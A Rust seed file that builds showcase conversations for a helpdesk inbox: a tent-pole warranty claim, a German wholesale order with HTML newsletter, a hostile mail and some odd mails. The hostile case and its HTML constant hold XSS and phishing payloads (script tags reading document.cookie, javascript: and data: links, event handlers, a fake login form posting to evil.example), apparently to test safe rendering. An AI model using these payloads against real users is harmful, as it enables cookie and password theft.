//! Showcases in the e-mail inbox.

use serde_json::json;

use super::Showcase;
use crate::seed::account::{JONAS, MAREN, REPAIRS};
use crate::seed::file::{Attachment, File};
use crate::seed::mail::{self, Mail};
use crate::seed::message::{By, Message};

pub(super) fn all() -> Vec<Showcase> {
    vec![tent_pole(), newsletter(), hostile(), odd()]
}

fn tent_pole() -> Showcase {
    let mut case = Showcase::new("mail", 1, "Tomás Echeverría", 3);
    let address = "tomas@echeverria.example";
    case.contact.email = Some(address.to_owned());
    case.contact.phone = Some("+34600123456".to_owned());
    case.contact.additional = json!({
        "city": "Bilbao", "country": "España", "country_code": "ES",
        "description": "Mountain guide, buys for his whole group each spring.",
        "company_name": "Guías del Norte", "social_profiles": {"instagram": "tomas.guia"},
    });
    case.contact.custom =
        json!({"member_level": "guide", "member_since": "2019-04-02", "discount": 10});
    case.contact.labels = vec!["vip"];
    case.priority = Some(3);
    case.team = Some(REPAIRS);
    case.labels = vec!["warranty", "vip"];
    case.custom = json!({"order_number": "20418", "order_total": 399.0, "product_line": "tents",
        "gift": false, "promised_by": "2027-01-15", "store_visits": 3});
    case.subject = Some("Order 20418, tent pole snapped on the first night");
    case.step_minutes = 190;
    case.participants = vec![JONAS];
    case.unread = 1;
    let subject = "Order 20418, tent pole snapped on the first night";
    let letter = |message, quoted: &str, number| {
        mail::wrap(
            message,
            &Mail {
                subject,
                from: address,
                to: "help@fjellvik.example",
                quoted,
                number,
                ..Mail::default()
            },
        )
    };
    case.messages = vec![
        letter(
            Message::contact("Hola, we pitched the Kvist 2 for the first time last night and one pole snapped in ordinary wind. Two photos and the receipt are attached. Is this covered?\n\nTomás")
                .file(Attachment::file(File::Camp))
                .file(Attachment::file(File::Pole))
                .file(Attachment::file(File::Receipt)),
            "", 1,
        ),
        Message::new(By::System, "Thanks for writing, Tomás. We answer within four working hours."),
        Message::activity("Maren Solheim self-assigned this conversation"),
        Message::note(JONAS, "[@Maren Solheim](mention://user/1/Maren%20Solheim) batch **2291** again, third one this week. Six 8.5 mm poles left in Drammen, I put one aside for him."),
        Message::agent(MAREN, "Yes, fully covered, and I'm sorry the first night went like that. Is it the thin pole with the grey sleeve?")
            .with(json!({"cc_emails": ["workshop@fjellvik.example"], "bcc_emails": [], "to_emails": [],
                "email": {
                    "html_content": {"full": "<p>Yes, fully covered.</p>", "reply": "Yes, fully covered."},
                    "text_content": {"full": "Yes, fully covered.", "reply": "Yes, fully covered."},
                }})),
        letter(
            Message::contact("That one, exactly."),
            "\n\nOn Friday, Maren wrote:\n> Yes, fully covered, and I'm sorry the first night went like that.\n> Is it the thin pole with the grey sleeve?\n>> Hola, we pitched the Kvist 2", 2,
        ),
        Message::activity("Maren Solheim set the priority to urgent"),
        Message::activity("Maren Solheim added warranty, vip"),
        Message::agent(MAREN, "It leaves Drammen today with express, tracking follows.")
            .failed("Net::SMTPFatalError: 552 5.2.2 recipient's mailbox is full"),
        letter(Message::contact("We leave on Friday 🙏 Can it reach Calle Ercilla 12, Bilbao by then?"), "", 3),
    ];
    case
}

fn newsletter() -> Showcase {
    let mut case = Showcase::new("mail-html", 1, "Maximiliana von Hohenfels-Lichtenstein", 9);
    let address = "einkauf@hohenfels.example";
    case.contact.email = Some(address.to_owned());
    case.contact.additional =
        json!({"company_name": "Alpinhaus Hohenfels GmbH & Co. KG", "country_code": "DE"});
    case.priority = Some(2);
    case.labels = vec!["wholesale", "vip"];
    case.subject = Some("Wholesale prices 2027");
    case.unread = 2;
    let mail = |number, html, cc| Mail {
        subject: "Wholesale prices 2027",
        from: address,
        to: "help@fjellvik.example",
        cc,
        html,
        number,
        ..Mail::default()
    };
    case.messages = vec![
        mail::wrap(
            Message::contact("Guten Tag, welche Preise gelten 2027?"),
            &mail(11, None, &[]),
        ),
        Message::agent(
            MAREN,
            "Guten Tag Frau von Hohenfels,\n\n| Artikel | ab 20 | ab 100 |\n|---|---:|---:|\n| Kvist 2 | 279 € | 249 € |\n| Lyng 35 | 89 € | 79 € |\n\nFreundliche Grüße",
        ),
        mail::wrap(
            Message::contact("Guten Tag, anbei unsere Bestellung über 140 Zelte.")
                .file(Attachment::file(File::LongName)),
            &mail(
                12,
                Some(ORDER),
                &["buchhaltung@hohenfels.example", "lager@hohenfels.example"],
            ),
        ),
        mail::wrap(
            Message::contact("").bare(),
            &mail(13, Some(NEWSLETTER), &[]),
        ),
    ];
    case
}

fn hostile() -> Showcase {
    let mut case = Showcase::new(
        "mail-hostile",
        1,
        "Billing Department <billing@fjellvik.example>",
        22,
    );
    let address = "ceo@fje1lvik.example";
    case.contact.email = Some(address.to_owned());
    case.subject = Some("Invoice overdue <b>NOW</b>");
    case.labels = vec!["billing"];
    case.unread = 1;
    case.messages = vec![mail::wrap(
        Message::contact(
            "Pay now: [pay](javascript:alert(1)) or https://fjellvik.example.evil.example/pay",
        ),
        &Mail {
            subject: "Invoice overdue <b>NOW</b>",
            from: address,
            to: "help@fjellvik.example",
            html: Some(HOSTILE),
            number: 14,
            ..Mail::default()
        },
    )];
    case
}

/// An answering machine, a mail without a subject and one without a text.
fn odd() -> Showcase {
    let mut case = Showcase::new(
        "mail-odd",
        1,
        "bjorn.dahl+repairs@verylongmailhost.example",
        38,
    );
    let address = "bjorn.dahl+repairs@verylongmailhost.example";
    case.contact.email = Some(address.to_owned());
    case.subject = Some("");
    let mail = |number, automatic| Mail {
        from: address,
        to: "help@fjellvik.example",
        automatic,
        number,
        ..Mail::default()
    };
    let long = "Dette er en veldig lang e-post om sømmer. ".repeat(240);
    case.messages = vec![
        mail::wrap(Message::contact(&long), &mail(15, false)),
        Message::agent(MAREN, "Takk, det var grundig."),
        mail::wrap(
            Message::contact("Jeg er på fjellet til mandag."),
            &mail(16, true),
        ),
        mail::wrap(
            Message::contact("")
                .bare()
                .file(Attachment::file(File::Camp)),
            &mail(17, false),
        ),
    ];
    case
}

const ORDER: &str = r#"<html><head><style>td{padding:4px 8px;border:1px solid #ccc}</style></head>
<body dir="auto"><p>Guten Tag, anbei unsere Bestellung über 140&nbsp;Zelte.</p>
<table><tr><th>Artikel</th><th>Farbe</th><th>Stück</th></tr>
<tr><td>Kvist 2</td><td>moosgrün</td><td align="right">90</td></tr>
<tr><td>Kvist 3</td><td>ziegelrot</td><td align="right">50</td></tr></table>
<p>Mit freundlichen Grüßen<br>M. von Hohenfels-Lichtenstein</p>
<blockquote type="cite"><p>Guten Tag Frau von Hohenfels, …</p></blockquote></body></html>"#;

const NEWSLETTER: &str = r##"<!doctype html><html><body style="margin:0;background:#f4f1ea">
<center><table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff"><tr><td>
<img src="https://tracker.example/open.gif?id=42" width="1" height="1" alt="">
<img src="https://cdn.example/hero.jpg" width="600" height="240" alt="Herbst in den Bergen">
<h1 style="font:28px Georgia,serif;color:#2f5d50">Herbst in den Bergen</h1>
<p style="font:16px/1.5 sans-serif">Neue Wege, neue Hütten. <a href="https://click.example/?u=1">Weiterlesen</a></p>
<a href="mailto:abmelden@hohenfels.example?subject=abmelden" style="color:#888">Abmelden</a>
</td></tr></table></center></body></html>"##;

const HOSTILE: &str = r#"<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>parent.alert(document.cookie)</script><style>body{position:fixed;inset:0;background:url(https://evil.example/css)} @import "https://evil.example/x.css";</style></head>
<body onload="alert(1)"><h2 style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">Session expired</h2>
<form action="https://evil.example/login"><input name="password" type="password" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">Sign in</button></form>
<img src="x" onerror="alert(1)"><img srcset="https://evil.example/p 1x"><svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>
<a href="jAvAsCrIpT&#58;alert(1)">pay</a> <a href="data:text/html,<script>alert(1)</script>">view</a> <a href="https://fjellvik.example@evil.example/">https://fjellvik.example/</a>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">
<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math><template><img src=x onerror=alert(1)></template>
<div style="background:expression(alert(1));width:99999px">wide</div><marquee>m</marquee><plaintext>rest"#;
